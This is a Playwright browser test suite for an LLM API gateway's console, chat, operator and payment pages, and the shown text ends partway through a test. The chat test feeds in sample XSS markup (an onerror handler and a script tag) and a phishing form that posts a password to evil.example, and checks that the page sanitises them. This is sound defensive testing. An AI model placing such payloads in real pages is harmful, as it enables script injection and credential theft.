"""The pages in a real browser (Debian's chromium, driven by Playwright): a user's sign-up to
SDK usage in the console, a streamed chat answer and its cost, an operator's channel and
redeem code. Each page is photographed at 1280x800 and at a 390-px phone width into
tests/artifacts/screenshots/, and must not overflow the phone's width."""
from __future__ import annotations

import re
import secrets
import subprocess
import sys
import time
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path

import psycopg
import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect, sync_playwright

from tests import openai_tokens
from tests.console import PASSWORD, ConsoleUser
from tests.mock_upstream import ok, stream_then
from tests.world import ISSUED_SECRETS, World

CHROMIUM = "/usr/bin/chromium"
SHOTS = Path(__file__).resolve().parent / "artifacts" / "screenshots"
DESKTOP = {"width": 1280, "height": 800}
PHONE = {"width": 390, "height": 844}
# A deadline for what `expect` waits on (a page to load, a stream to arrive), as for the pages'
# own actions: on a machine shared by many runs, 5 s is not always enough for chromium to start a page.
expect.set_options(timeout=15_000)
FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
         "--disable-component-update"]


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    assert Path(CHROMIUM).exists(), f"{CHROMIUM} is missing: `make test` installs it (make browser)"
    SHOTS.mkdir(parents=True, exist_ok=True)
    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, args=FLAGS, headless=True)
        yield b
        b.close()


def context(browser: Browser, viewport: dict[str, int], base_url: str, state: object = None,
            locale: str = "en-US") -> BrowserContext:
    ctx = browser.new_context(viewport=viewport, base_url=base_url, storage_state=state,  # type: ignore[arg-type]
                              device_scale_factor=1, is_mobile=viewport is PHONE, has_touch=viewport is PHONE,
                              locale=locale)
    ctx.set_default_timeout(15_000)
    return ctx


def shoot(page: Page, name: str) -> None:
    """A screenshot, and on a phone a check that nothing is wider than the screen."""
    page.wait_for_load_state("networkidle")
    page.screenshot(path=str(SHOTS / f"{name}.png"))
    if name.endswith("-phone"):
        overflow = page.evaluate("document.documentElement.scrollWidth - window.innerWidth")
        assert overflow <= 0, f"{name}: the page is {overflow}px wider than the phone"


def phone_shots(browser: Browser, desktop: BrowserContext, base_url: str, pages: dict[str, str],
                locale: str = "en-US", data: tuple[str, ...] = ()) -> None:
    """The same pages, signed in as the same user, on a phone."""
    phone = context(browser, PHONE, base_url, desktop.storage_state(), locale)
    page = phone.new_page()
    for name, path in pages.items():
        page.goto(path)
        page.wait_for_selector("#content, #thread, #auth-form")
        page.wait_for_load_state("networkidle")
        shoot(page, f"{name}-phone")
        if locale.startswith("zh"):
            assert_chinese(page, data)
    phone.close()


def balance_of(page: Page) -> Decimal:
    return Decimal(re.sub(r"[^0-9.]", "", page.locator("#balance").inner_text()))


def sign_in(page: Page, email: str, password: str = PASSWORD) -> None:
    page.fill("#email", email)
    page.fill("#password", password)
    page.click("#auth-submit")
    expect(page.locator("#balance")).to_be_visible()


def test_register_create_key_use_it_and_see_usage(browser: Browser, world: World) -> None:
    ctx = context(browser, DESKTOP, world.url)
    page = ctx.new_page()
    page.goto("/console")
    expect(page.locator("#auth-form")).to_be_visible()
    shoot(page, "console-signin")
    phone = context(browser, PHONE, world.url).new_page()
    phone.goto("/console")
    shoot(phone, "console-signin-phone")
    phone.context.close()

    email = f"web{secrets.token_hex(3)}@example.com"
    page.click("#tab-register")
    page.fill("#email", email)
    page.fill("#password", PASSWORD)
    page.click("#auth-submit")
    expect(page.locator("#overview-balance")).to_have_text("100.00")
    expect(page.locator("#balance")).to_have_text("100.00 credits")
    # Cookies are beyond the page's scripts.
    assert page.evaluate("document.cookie") == ""
    # The key made at sign-up, shown this once with a curl line that works as pasted.
    first = page.locator("#first-key-value").inner_text()
    assert first.startswith("sk-")
    ISSUED_SECRETS.add(first)
    curl = page.locator("#first-key .curl-line").inner_text()
    assert f"Bearer {first}" in curl and world.url + "/v1/chat/completions" in curl
    ran = subprocess.run(["bash", "-c", curl], capture_output=True, text=True, timeout=60,
                         env={"PATH": "/usr/bin:/bin"})
    assert ran.returncode == 0 and '"chat.completion"' in ran.stdout, ran.stderr
    shoot(page, "console-first-key")
    page.click("#nav-keys")
    page.click("#nav-overview")
    expect(page.locator("#overview-balance")).to_be_visible()
    expect(page.locator("#first-key")).to_have_count(0)

    page.click("#nav-keys")
    page.fill("#key-name", "my laptop")
    page.click("#create-key")
    key = page.locator("#new-key-value").inner_text()
    assert key.startswith("sk-")
    ISSUED_SECRETS.add(key)
    expect(page.locator("#keys-body tr")).to_have_count(2)
    expect(page.locator("#keys-body")).to_contain_text("my laptop")
    # Every limit the admin API sets, set from the console.
    page.fill("#key-name", "ci only")
    page.click("#key-more summary")
    page.select_option("#key-models", ["gpt-4o-mini"])
    page.fill("#key-rpm", "7")
    page.fill("#key-ips", "10.9.0.0/16")
    page.fill("#key-expires", "2099-01-31")
    page.click("#create-key")
    expect(page.locator("#new-key-value")).not_to_have_text(key)
    ISSUED_SECRETS.add(page.locator("#new-key-value").inner_text())
    row = page.locator("#keys-body tr", has_text="ci only")
    expect(row).to_contain_text("gpt-4o-mini")
    expect(row).to_contain_text("7 rpm")
    expect(row).to_contain_text("10.9.0.0/16")
    user_id = page.evaluate("ck.me.user_id")
    made = [k for k in world.admin("GET", f"/admin/v1/users/{user_id}/keys")["data"] if k["name"] == "ci only"][0]
    assert made["models"] == ["gpt-4o-mini"] and made["rpm"] == 7 and made["ips"] == ["10.9.0.0/16"]
    assert made["expires_at"] == 4073587199  # 2099-01-31T23:59:59Z
    shoot(page, "console-keys")

    reply = world.client(key).chat.completions.with_raw_response.create(
        model="gpt-3.5-turbo", messages=[{"role": "user", "content": "Say this is a test!"}])
    request_id = reply.headers["x-request-id"]
    assert reply.parse().choices[0].message.content

    page.click("#nav-usage")
    row = page.locator(f'#usage-body tr[data-request-id="{request_id}"]')
    expect(row).to_contain_text("gpt-3.5-turbo")
    expect(row).to_contain_text("my laptop")
    expect(row).to_contain_text("complete")
    shoot(page, "console-usage")
    page.click("#nav-overview")
    expect(page.locator("#overview-requests")).to_have_text("2")  # the first key's curl line, then the SDK call
    assert balance_of(page) < 100
    assert Decimal(page.locator("#overview-balance").inner_text()) == balance_of(page)
    shoot(page, "console-overview")
    phone_shots(browser, ctx, world.url, {"console-overview": "/console#overview", "console-keys": "/console#keys",
                                          "console-usage": "/console#usage"})
    # Signing out ends the session: the console asks to sign in again.
    page.click("#signout")
    expect(page.locator("#auth-form")).to_be_visible()
    ctx.close()


def test_chat_streams_markdown_shows_cost_and_stops(browser: Browser, world: World) -> None:
    model, tag = world.served_model(prefix="gpt-chat")
    user = ConsoleUser(world.url).register()
    ctx = context(browser, DESKTOP, world.url)
    page = ctx.new_page()
    page.goto("/chat")
    expect(page.locator("#auth-form")).to_be_visible()
    shoot(page, "chat-signin")
    sign_in(page, user.email)
    page.select_option("#model", model)

    # The stream stops after its first two pieces of text until the test lets the rest go: the
    # answer must show up while it is still arriving.
    rest = world.mock.gate()
    world.mock.script(tag, ok(pieces=24, gate_each=rest, free_chunks=3))
    page.fill("#prompt", "Show **bold** and code:\n```python\nprint('hi')\n```")
    page.press("#prompt", "Enter")
    answer = page.locator(".msg.assistant").last
    expect(page.locator("#stop")).to_be_visible()
    expect(answer.locator(".bubble")).not_to_be_empty()
    assert page.locator("#stop").is_visible(), "the answer should render while it streams"
    assert rest.passed == 0  # all of that while the rest of the stream was still held back
    rest.open()
    expect(answer.locator(".meta")).to_contain_text("cost", timeout=20_000)
    expect(answer.locator(".bubble pre code.hljs")).to_contain_text("print('hi')")  # highlighted code block
    expect(answer.locator(".bubble strong")).to_have_text("bold")  # Markdown rendered
    cost = Decimal(answer.locator(".meta").get_attribute("data-cost") or "0")
    # What the page sent and the mock's answer to it, at World.model's prices (1.5 and 2 per 1,000).
    sent = world.mock.received(tag)[-1].body["messages"]
    prompt = openai_tokens.chat_prompt_tokens(sent, model)
    completion = openai_tokens.text_tokens("This is a test! You said: " + sent[-1]["content"].strip(), model)
    assert cost == (prompt * Decimal("1.5") + completion * 2) / 1000
    row = world.usage(user.user_id)[0]
    assert Decimal(str(row["credits"])) == cost and row["model"] == model and row["status"] == "complete"
    assert balance_of(page) == 100 - cost == world.balance(user.user_id)

    # Stop: a stream the upstream holds after two pieces of text (at a Gate, until the test is
    # done with it) is cut by the button; it pays for what was delivered.
    held = world.mock.gate()
    world.mock.script(tag, stream_then(3, "hang", gate=held))
    try:
        page.fill("#prompt", "Tell me a long story")
        page.press("#prompt", "Enter")
        stopped = page.locator(".msg.assistant").last
        expect(stopped.locator(".bubble")).not_to_be_empty()
        page.click("#stop")
        expect(stopped.locator(".meta")).to_contain_text("stopped")
        expect(stopped.locator(".meta")).to_contain_text("cost", timeout=20_000)
        assert (held.arrived, held.passed) == (1, 0)  # stopped while the upstream still held the rest
    finally:
        held.open()
    expect(page.locator("#send")).to_be_visible()
    row = world.usage(user.user_id)[0]
    assert row["status"] == "client_gone"
    story = "This is a test! You said: Tell me a long story"
    delivered = story[:2 * -(-len(story) // 20)]  # the mock's 20 pieces: the role chunk and two went out
    expect(stopped.locator(".bubble")).to_have_text(delivered)
    sent = world.mock.received(tag)[-1].body["messages"]
    assert (row["prompt_tokens"], row["completion_tokens"]) == (openai_tokens.chat_prompt_tokens(sent, model),
                                                                openai_tokens.text_tokens(delivered, model))
    assert Decimal(str(row["credits"])) == (row["prompt_tokens"] * Decimal("1.5") + row["completion_tokens"] * 2) / 1000
    shoot(page, "chat")
    phone_shots(browser, ctx, world.url, {"chat": "/chat"})

    # Markup in an answer is sanitised: an injected handler or script never runs.
    page.click("#new-chat")
    world.mock.script(tag, ok(content="<img src=x onerror=\"document.body.dataset.pwned=1\"><script>alert(1)</script>"))
    page.fill("#prompt", "try me")
    page.press("#prompt", "Enter")
    expect(page.locator(".msg.assistant").last.locator(".meta")).to_contain_text("cost", timeout=20_000)
    assert page.evaluate("document.body.dataset.pwned") is None
    assert page.locator(".msg.assistant .bubble script, .msg.assistant .bubble img[onerror]").count() == 0
    # Nor a form to phish with, a style to restyle the page, or an id/name to clobber its own.
    world.mock.script(tag, ok(content='<form action="https://evil.example/"><input name="password"'
                                      ' placeholder="Password"><button>Sign in</button></form>'
                                      '<style>body { display: none }</style>'
                                      '<p id="balance" name="csrf" style="color: red">still here</p>'))
    page.fill("#prompt", "phish me")
    page.press("#prompt", "Enter")
    phished = page.locator(".msg.assistant").last
    expect(phished.locator(".meta")).to_contain_text("cost", timeout=20_000)
    expect(phished.locator(".bubble")).to_contain_text("still here")
    assert phished.locator(".bubble form, .bubble input, .bubble button, .bubble style").count() == 0
    assert phished.locator(".bubble [id], .bubble [name], .bubble [style]").count() == 0
    assert page.locator("#balance").count() == 1 and page.evaluate("getComputedStyle(document.body).display") != "none"

    # Conversations are kept in the browser: both still there after a reload.
    page.reload()
    expect(page.locator(".conv")).to_have_count(2)  # the sanitising checks share the second
    page.locator(".conv a", has_text="Show **bold**").click()
    expect(page.locator(".msg")).to_have_count(4)
    expect(page.locator(".msg.assistant .bubble pre code")).to_contain_text("print('hi')")
    ctx.close()


def test_operator_reads_the_audit_log(browser: Browser, world: World) -> None:
    """/ops#audit lists an operator's change by who made it, with the fields sent but never a key."""
    op = ConsoleUser(world.url).register()
    world.admin("PUT", f"/admin/v1/users/{op.user_id}/role", {"role": "operator"})
    channel_id, tag = world.channel([world.model()])
    op.ok("PATCH", f"/admin/v1/channels/{channel_id}", {"priority": 3, "api_key": f"sk-audit-{tag}-secret"})
    ctx = context(browser, DESKTOP, world.url)
    page = ctx.new_page()
    page.goto("/console")
    sign_in(page, op.email)
    page.goto("/ops#audit")
    row = page.locator("#audit-body tr", has_text=f"operator {op.email}").first
    expect(row).to_contain_text(f"PATCH /admin/v1/channels/{{id}}{channel_id}")
    expect(row).to_contain_text("priority=3")
    expect(row).to_contain_text("api_key")
    assert f"sk-audit-{tag}-secret" not in page.content() and f"sk-upstream-{tag}" not in page.content()
    shoot(page, "ops-audit")
    ctx.close()


def test_operator_adds_channel_and_code_user_redeems(browser: Browser, world: World) -> None:
    op = ConsoleUser(world.url).register()
    world.admin("PUT", f"/admin/v1/users/{op.user_id}/role", {"role": "operator"})
    customer = ConsoleUser(world.url).register()
    ctx = context(browser, DESKTOP, world.url)
    page = ctx.new_page()
    page.goto("/ops")  # not signed in: sent to the console first
    expect(page).to_have_url(re.compile(r"/console\?next=/ops"))
    sign_in(page, op.email)
    page.goto("/ops")
    expect(page.locator("#dash-totals .stat")).to_have_count(6)  # with unbilled tokens and unpaid credits
    shoot(page, "ops-dashboard")

    # A new model: price it, then add a channel that serves it, and test the channel.
    model = f"ops-{secrets.token_hex(3)}"
    tag = f"ops{secrets.token_hex(3)}"
    page.click("#nav-prices")
    page.fill("#price-model", model)
    page.fill("#price-prompt", "1.5")
    page.fill("#price-completion", "2")
    page.click("#price-form button[type=submit]")
    expect(page.locator("#prices-body")).to_contain_text(model)
    shoot(page, "ops-prices")
    page.click("#nav-channels")
    page.fill("#ch-name", f"mock-{tag}")
    page.fill("#ch-base-url", world.mock.base_url(tag))
    page.fill("#ch-api-key", f"sk-upstream-{tag}-secret")
    page.fill("#ch-models", model)
    page.click("#ch-save")
    row = page.locator("#channels-body tr", has_text=f"mock-{tag}")
    expect(row).to_contain_text("healthy")
    assert f"sk-upstream-{tag}-secret" not in page.content()
    row.get_by_role("button", name="Test").click()
    expect(row.locator(".test-result")).to_contain_text(re.compile(r"ok · \d+ ms"))
    shoot(page, "ops-channels")
    tenant = world.tenant()
    answer = tenant.client.chat.completions.create(model=model, messages=[{"role": "user", "content": "hi"}])
    assert answer.model == model and world.mock.received(tag)[-1].body["messages"][0]["content"] == "hi"

    page.click("#nav-codes")
    page.fill("#code-credits", "12.5")
    page.fill("#code-count", "3")
    page.click("#codes-form button[type=submit]")
    expect(page.locator(".redeem-code")).to_have_count(3)
    code = page.locator(".redeem-code").first.inner_text()
    shoot(page, "ops-codes")

    page.click("#nav-users")
    page.fill("#user-query", customer.email)
    page.click("#user-search button[type=submit]")
    user_row = page.locator(f'#users-body tr[data-user-id="{customer.user_id}"]')
    expect(user_row).to_contain_text(customer.email)
    user_row.locator(".topup-amount").fill("5")
    user_row.get_by_role("button", name="Add").click()
    expect(page.locator("#users-message")).to_contain_text("balance 105.00")
    page.fill("#user-query", "")
    page.click("#user-search button[type=submit]")
    shoot(page, "ops-users")
    phone_shots(browser, ctx, world.url, {"ops-dashboard": "/ops#dashboard", "ops-users": "/ops#users",
                                          "ops-channels": "/ops#channels", "ops-prices": "/ops#prices",
                                          "ops-codes": "/ops#codes"})
    ctx.close()

    # The customer redeems the code in the console.
    ctx = context(browser, DESKTOP, world.url)
    page = ctx.new_page()
    page.goto("/console")
    sign_in(page, customer.email)
    expect(page.locator("#nav-ops")).to_have_count(0)
    page.fill("#redeem-code", code)
    page.click("#redeem-form button[type=submit]")
    expect(page.locator("#redeem-message")).to_contain_text("117.50")
    expect(page.locator("#balance")).to_have_text("117.50 credits")
    page.fill("#redeem-code", code)
    page.click("#redeem-form button[type=submit]")
    expect(page.locator("#redeem-message")).to_contain_text("already been used")
    assert world.balance(customer.user_id) == Decimal("117.5")
    # A normal user who opens the operator page is sent back to the console.
    page.goto("/ops")
    expect(page).to_have_url(re.compile(r"/console"))
    ctx.close()


def owe(world: World, user_id: int, debt: str) -> Decimal:
    """What a refund of credits already spent leaves: the balance taken to 0 and `debt` owed, in
    one balanced ledger movement (store._take_back's: available -taken, owed -rest, funding +due)."""
    rest = int(Decimal(debt) * 1_000_000)
    with psycopg.connect(world.stack.database_url, autocommit=True) as conn, conn.transaction():
        taken = conn.execute("SELECT balance FROM users WHERE id = %s FOR UPDATE", (user_id,)).fetchone()[0]
        conn.execute("UPDATE users SET balance = 0, owed = owed + %s WHERE id = %s", (rest, user_id))
        conn.execute("INSERT INTO ledger (movement, kind, ref, user_id, account, amount)"
                     " SELECT m, 'refund', 'refund:browser-test', e.u, e.a, e.x FROM nextval('ledger_movement_seq') m,"
                     " (VALUES (%(u)s::bigint, 'available', -%(t)s::bigint), (%(u)s::bigint, 'owed', -%(r)s::bigint),"
                     "         (NULL::bigint, 'funding', %(t)s::bigint + %(r)s::bigint)) AS e(u, a, x)",
                     {"u": user_id, "t": taken, "r": rest})
    return Decimal(debt)


def test_console_and_ops_show_a_debt_until_a_top_up_pays_it(browser: Browser, world: World) -> None:
    debtor = ConsoleUser(world.url).register()
    op = ConsoleUser(world.url).register()
    world.admin("PUT", f"/admin/v1/users/{op.user_id}/role", {"role": "operator"})
    owe(world, debtor.user_id, "12.345678")
    assert world.verify()["ok"]

    ctx = context(browser, DESKTOP, world.url)
    page = ctx.new_page()
    page.goto("/console")
    sign_in(page, debtor.email)
    banner = page.locator("#owed-banner")
    expect(banner).to_contain_text("You owe 12.345678 credits from a refunded payment")
    expect(page.locator("#balance")).to_have_text("0.00 credits")
    shoot(page, "console-owed")
    zh = context(browser, DESKTOP, world.url, ctx.storage_state(), locale="zh-CN")
    zh_page = zh.new_page()
    zh_page.goto("/console")
    expect(zh_page.locator("#owed-banner")).to_contain_text("你欠 12.345678 额度")
    assert_chinese(zh_page, (debtor.email,))
    zh.close()

    ops = context(browser, DESKTOP, world.url)
    ops_page = ops.new_page()
    ops_page.goto("/console")
    sign_in(ops_page, op.email)
    ops_page.goto("/ops#users")
    ops_page.fill("#user-query", debtor.email)
    ops_page.click("#user-search button[type=submit]")
    row = ops_page.locator(f'#users-body tr[data-user-id="{debtor.user_id}"]')
    expect(row.locator("td.owed")).to_have_text("12.345678")

    # A top-up pays the debt first; what is left is the balance, and the line is gone.
    world.admin("POST", f"/admin/v1/users/{debtor.user_id}/topups", {"credits": 20})
    page.reload()
    expect(page.locator("#balance")).to_have_text("7.654322 credits")
    expect(banner).to_have_count(0)
    ops_page.click("#user-search button[type=submit]")
    expect(row.locator("td.owed")).to_have_count(0)
    expect(row.locator("td.num").nth(1)).to_have_text("0.00")
    ops.close()
    ctx.close()


# What a Chinese page may still show in Latin letters: product, model and client names, units
# and formats, and data (emails, URLs, names of channels and users) that is not the page's text.
_NAMES = re.compile(r"chatkore|OpenAI|API|SDK|SSE|JSON|CSV|HTTP|IP|UTC|CI|Python|Node\.js|curl|LangChain"
                    r"|chatgpt-web|token"
                    r"|sk-…|ck-…|gpt-[\w.-]+|text-[\w.-]+|[\w.+-]+@[\w.-]+|https?://\S+|/v1")
_PAGE_TEXT = """() => {
  const parts = [document.title];
  // The language switch names each language in itself; code (commands, headers) is code.
  const skip = (el) => el.closest("#lang-switch, pre, code, .mono");
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  for (let n = walker.nextNode(); n; n = walker.nextNode()) {
    const el = n.parentElement;
    if (!el || skip(el) || el.closest("script, style") || !el.getClientRects().length) continue;
    parts.push(n.textContent);
  }
  for (const el of document.querySelectorAll("[placeholder], [title], [aria-label]")) {
    if (skip(el)) continue;
    for (const a of ["placeholder", "title", "aria-label"]) if (el.getAttribute(a)) parts.push(el.getAttribute(a));
  }
  return parts.join("\\n");
}"""


def assert_chinese(page: Page, data: tuple[str, ...] = ()) -> None:
    """No English on the page but names: a string a catalogue lacks, or one left inline, shows here."""
    page.wait_for_load_state("networkidle")
    assert page.evaluate("document.documentElement.lang") == "zh-CN"
    text = page.evaluate(_PAGE_TEXT)
    for value in sorted(data, key=len, reverse=True):
        text = text.replace(value, " ")
    left = re.findall(r"[A-Za-z]{2,}", _NAMES.sub(" ", text))
    assert not left, f"{page.url}: English on a Chinese page: {sorted(set(left))}"


def _served_names(world: World, *also: str) -> list[str]:
    """Every model name a page may list: the channels' models, priced models and aliases."""
    names = [m for c in world.admin("GET", "/admin/v1/channels")["data"] for m in c["models"]]
    names += [p["model"] for p in world.admin("GET", "/admin/v1/prices")["data"]]
    names += [a["name"] for a in world.admin("GET", "/admin/v1/aliases")["data"]]
    return [*names, *also]


def test_pages_in_chinese_and_the_language_switch_sticks(browser: Browser, world: World) -> None:
    model, _ = world.served_model(prefix="gpt-zh")
    ctx = context(browser, DESKTOP, world.url, locale="zh-CN")
    page = ctx.new_page()
    page.goto("/console")
    expect(page.locator("#auth-form")).to_be_visible()
    expect(page.locator("#auth-submit")).to_have_text("登录")
    assert_chinese(page)
    # A refusal from /api comes in Chinese too.
    email = f"zh{secrets.token_hex(3)}@example.com"
    page.fill("#email", email)
    page.fill("#password", PASSWORD)
    page.click("#auth-submit")
    expect(page.locator("#auth-form .error")).to_have_text("邮箱或密码错误。")
    shoot(page, "console-signin-zh")

    page.click("#tab-register")
    page.click("#auth-submit")
    expect(page.locator("#balance")).to_have_text("100.00 额度")
    user_id = page.evaluate("ck.me.user_id")
    # The key form and the chat page list every model the shared world serves, whatever the
    # other tests named them: names, not the page's text.
    served = tuple(_served_names(world, model))
    for section in ("overview", "keys", "usage"):
        page.click(f"#nav-{section}")
        page.wait_for_selector("#content h1")
        assert_chinese(page, served)
        shoot(page, f"console-{section}-zh")
    phone_shots(browser, ctx, world.url, {"console-overview-zh": "/console#overview"}, "zh-CN")

    page.goto("/chat")
    page.wait_for_selector("#prompt")
    assert_chinese(page, served)
    shoot(page, "chat-zh")
    phone_shots(browser, ctx, world.url, {"chat-zh": "/chat"}, "zh-CN", served)

    for path, ready, name in (("/pricing", "#pricing-table", "pricing-zh"), ("/", "#home-prices", "home-zh"),
                              ("/docs", "#docs-prices", "docs-zh")):
        page.goto(path)
        page.wait_for_selector(ready)
        assert_chinese(page, ("hd",))  # an image price's quality, as OpenAI names it: data
        shoot(page, name)
    phone_shots(browser, ctx, world.url, {"home-zh": "/", "docs-zh": "/docs"}, "zh-CN")

    world.admin("PUT", f"/admin/v1/users/{user_id}/role", {"role": "operator"})
    # What the operator pages list is data the other tests made, not the page's text.
    users = world.admin("GET", "/admin/v1/users?limit=100")["data"]
    data = [u[f] for u in users for f in ("email", "name") if u.get(f)]
    data += [c[f] for c in world.admin("GET", "/admin/v1/channels")["data"] for f in ("name", "base_url", "api_key")]
    data += [m for c in world.admin("GET", "/admin/v1/channels")["data"] for m in c["models"]]
    data += [p["model"] for p in world.admin("GET", "/admin/v1/prices")["data"]]
    page.goto("/ops")
    for section in ("dashboard", "users", "channels", "prices", "codes"):
        page.click(f"#nav-{section}")
        page.wait_for_selector("#content h1")
        assert_chinese(page, tuple(d for d in data if d))
        shoot(page, f"ops-{section}-zh")

    # The switch: English now, on this page and the next, after a reload; then back.
    page.goto("/console")
    page.select_option("#lang-switch", "en")
    expect(page.locator("#signout")).to_have_text("Sign out")
    assert page.evaluate("document.documentElement.lang") == "en"
    page.goto("/chat")
    expect(page.locator("#send")).to_have_text("Send")
    page.reload()
    expect(page.locator("#new-chat")).to_have_text("+ New chat")
    page.select_option("#lang-switch", "zh-CN")
    expect(page.locator("#send")).to_have_text("发送")
    ctx.close()


def test_home_introduces_and_docs_examples_work_as_written(browser: Browser, world: World) -> None:
    """The home page leads to sign-up and docs; the docs' examples carry this server's address
    and run as they stand, with only the key filled in."""
    ctx = context(browser, DESKTOP, world.url)
    page = ctx.new_page()
    page.goto("/")
    expect(page).to_have_url(world.url + "/")
    expect(page.locator("#home-base-url")).to_have_text(world.url + "/v1")
    expect(page.locator("#home-prices tr").first).to_be_visible()
    shoot(page, "home")
    page.click("#home-docs")
    expect(page).to_have_url(world.url + "/docs")
    expect(page.locator("#docs-base-url")).to_have_text(world.url + "/v1")
    expect(page.locator("#docs-errors tr[data-code=insufficient_quota]")).to_contain_text("402")
    expect(page.locator('#docs-prices tr[data-model="text-embedding-ada-002"]')).to_contain_text("4.00")
    shoot(page, "docs")
    phone_shots(browser, ctx, world.url, {"home": "/", "docs": "/docs"})
    curl = page.locator("#example-curl").inner_text()
    python = page.locator("#example-python").inner_text()
    ctx.close()

    tenant = world.tenant()
    assert world.url + "/v1" in curl and world.url + "/v1" in python
    ran = subprocess.run(["bash", "-c", curl], capture_output=True, text=True, timeout=60,
                         env={"PATH": "/usr/bin:/bin", "CHATKORE_KEY": tenant.key})
    assert ran.returncode == 0 and '"chat.completion"' in ran.stdout, ran.stderr
    ran = subprocess.run([sys.executable, "-c", python.replace('api_key="sk-..."', f'api_key="{tenant.key}"')],
                         capture_output=True, text=True, timeout=60)
    assert ran.returncode == 0 and ran.stdout.strip(), ran.stderr
    assert len(world.usage(tenant.user_id)) == 2


def test_sign_up_see_prices_top_up_with_demo_and_review_the_order(browser: Browser, world: World) -> None:
    ctx = context(browser, DESKTOP, world.url)
    page = ctx.new_page()
    page.goto("/console")
    email = f"pay{secrets.token_hex(3)}@example.com"
    page.click("#tab-register")
    page.fill("#email", email)
    page.fill("#password", PASSWORD)
    page.click("#auth-submit")
    expect(page.locator("#balance")).to_have_text("100.00 credits")

    # Pricing, from the top bar: the table, with money beside credits.
    page.click('.topnav a[href="/pricing"]')
    row = page.locator('#pricing-body tr[data-model="gpt-3.5-turbo"]')
    expect(row).to_contain_text("1.50")
    expect(row).to_contain_text("¥")
    shoot(page, "pricing")

    # Top up 2 yuan with the demo provider: its page says it is a demo; Pay; the balance rises.
    page.goto("/console#topup")
    page.fill("#topup-amount", "2")
    page.select_option("#topup-provider", "demo")
    expect(page.locator("#topup-unit")).to_contain_text("280")
    page.click("#topup-submit")
    expect(page.locator("#topup-status [data-status]")).to_have_attribute("data-status", "pending")
    order_id = page.locator("#topup-order [data-order-id]").get_attribute("data-order-id")
    shoot(page, "console-topup")
    page.click("#topup-pay")
    expect(page.locator("#demo-warning")).to_be_visible()
    shoot(page, "demo-pay")
    page.click("#demo-pay")
    expect(page.locator("#demo-status")).to_have_attribute("data-status", "paid")
    expect(page.locator("#balance")).to_have_text("380.00 credits")
    page.click("#demo-back")
    paid = page.locator(f'#orders-body tr[data-order-id="{order_id}"]')
    expect(paid.locator("[data-status]")).to_have_attribute("data-status", "paid")
    expect(paid).to_contain_text("280.00")
    expect(page.locator("#invite-link")).to_contain_text("/console?invite=")
    shoot(page, "console-orders")
    phone_shots(browser, ctx, world.url, {"pricing": "/pricing", "console-topup": "/console#topup"})
    assert world.balance(page.evaluate("ck.me.user_id")) == 380

    # An operator finds the order on the Orders page, marks it for review, sees its notification.
    world.admin("PUT", f"/admin/v1/users/{page.evaluate('ck.me.user_id')}/role", {"role": "operator"})
    page.goto("/ops#orders")
    page.select_option("#orders-provider", "demo")
    page.select_option("#orders-status", "paid")
    page.click("#orders-filter button[type=submit]")
    order = page.locator(f'#ops-orders-body tr[data-order-id="{order_id}"]')
    expect(order).to_contain_text("2.00 CNY")
    order.locator('[data-action="review"]').click()
    expect(page.locator("#orders-message")).to_contain_text(order_id)
    expect(page.locator(f'#ops-orders-body tr[data-order-id="{order_id}"]')).to_contain_text("under review")
    page.locator(f'#ops-orders-body tr[data-order-id="{order_id}"] [data-action="notes"]').click()
    expect(page.locator("#order-notes-body")).to_contain_text("credited")
    shoot(page, "ops-orders")
    assert world.admin("GET", "/admin/v1/orders?review=true&provider=demo&limit=500")["data"][0]["id"] == order_id


def test_ops_users_list_keeps_the_latest_search_and_typed_amounts(browser: Browser, world: World) -> None:
    """The first list of users arriving after a search must not replace the search's rows, nor the
    amount the operator is typing (a clean-clone CI failure of test_operator_adds_channel_and_code_user_redeems)."""
    op = ConsoleUser(world.url).register()
    world.admin("PUT", f"/admin/v1/users/{op.user_id}/role", {"role": "operator"})
    customer = ConsoleUser(world.url).register()
    ctx = context(browser, DESKTOP, world.url)
    page = ctx.new_page()
    page.goto("/console")
    sign_in(page, op.email)
    first_list = re.compile(r"/admin/v1/users\?q=&limit=100$")
    held: list = []
    page.route(first_list, lambda route: held.append(route))  # the first list is slow to come
    page.goto("/ops#users")
    expect(page.locator("#user-query")).to_be_attached()
    deadline = time.monotonic() + 30
    while not held:  # Playwright hands the route over while it is called: each evaluate lets it
        assert time.monotonic() < deadline, "the page never asked for its first list of users"
        page.evaluate("1")
    assert len(held) == 1
    page.fill("#user-query", customer.email)
    page.click("#user-search button[type=submit]")
    row = page.locator(f'#users-body tr[data-user-id="{customer.user_id}"]')
    expect(row).to_contain_text(customer.email)
    row.locator(".topup-amount").fill("7")
    idle = page.locator('#users-body[aria-busy="false"]')  # no refill out
    expect(idle).to_have_count(0)
    held[0].continue_()  # the first list arrives at last: too late to count
    expect(idle).to_have_count(1)
    page.unroute(first_list)
    expect(page.locator("#users-body tr")).to_have_count(1)
    expect(row.locator(".topup-amount")).to_have_value("7")
    # A refill of the same search keeps what was typed, too.
    page.click("#user-search button[type=submit]")
    expect(idle).to_have_count(1)
    expect(row.locator(".topup-amount")).to_have_value("7")
    row.get_by_role("button", name="Add").click()
    expect(page.locator("#users-message")).to_contain_text("balance 107.00")
    expect(row.locator(".topup-amount")).to_have_value("")
    assert world.balance(customer.user_id) == 107
    ctx.close()


def test_dark_mode_follows_the_system_and_the_toggle_sticks(browser: Browser, world: World) -> None:
    ctx = browser.new_context(viewport=DESKTOP, base_url=world.url, color_scheme="dark", locale="en-US")
    page = ctx.new_page()
    background = "getComputedStyle(document.documentElement).backgroundColor"
    page.goto("/docs")
    page.wait_for_selector("#theme-toggle")
    assert page.evaluate(background) == "rgb(15, 17, 21)"  # the system prefers dark
    shoot(page, "docs-dark")
    page.click("#theme-toggle")
    assert page.evaluate(background) == "rgb(246, 247, 249)"
    page.goto("/console")  # remembered on the next page
    page.wait_for_selector("#theme-toggle")
    assert page.evaluate(background) == "rgb(246, 247, 249)"
    page.click("#theme-toggle")
    page.reload()
    page.wait_for_selector("#theme-toggle")
    assert page.evaluate(background) == "rgb(15, 17, 21)"
    shoot(page, "console-signin-dark")
    ctx.close()


def test_pricing_lists_what_images_and_audio_cost_per_unit(browser: Browser, world: World) -> None:
    model = f"img-{secrets.token_hex(3)}"
